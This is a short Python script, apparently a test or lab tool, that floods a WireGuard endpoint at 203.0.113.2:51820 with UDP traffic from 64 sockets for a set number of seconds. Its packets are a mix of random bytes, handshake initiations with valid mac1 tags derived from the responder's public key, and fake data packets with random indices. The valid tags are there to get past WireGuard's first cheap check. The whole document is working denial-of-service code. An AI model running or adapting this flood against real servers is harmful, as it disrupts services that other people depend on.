"""Floods 203.0.113.2:51820 for SECONDS: python3 flood.py RESPONDER-PUBLIC-KEY SECONDS. A third each: random bytes, valid
mac1 over nonsense, and data for random indices. Sources are the addresses of this host, many ports."""
import base64
import hashlib
import os
import socket
import sys
import time


def main():
    key = base64.b64decode(sys.argv[1])
    end = time.monotonic() + float(sys.argv[2])
    mac1_key = hashlib.blake2s(b"mac1----" + key).digest()
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(64)]
    messages = []
    for _ in range(512):
        messages.append(os.urandom(148))
        body = b"\1\0\0\0" + os.urandom(112)
        messages.append(body + hashlib.blake2s(body, key=mac1_key, digest_size=16).digest() + bytes(16))
        messages.append(b"\4\0\0\0" + os.urandom(12) + os.urandom(80))
    sent = 0
    while time.monotonic() < end:
        for message in messages:
            try:
                sockets[sent % 64].sendto(message, ("203.0.113.2", 51820))
                sent += 1
            except OSError:
                pass
    print(sent)


if __name__ == "__main__":
    main()
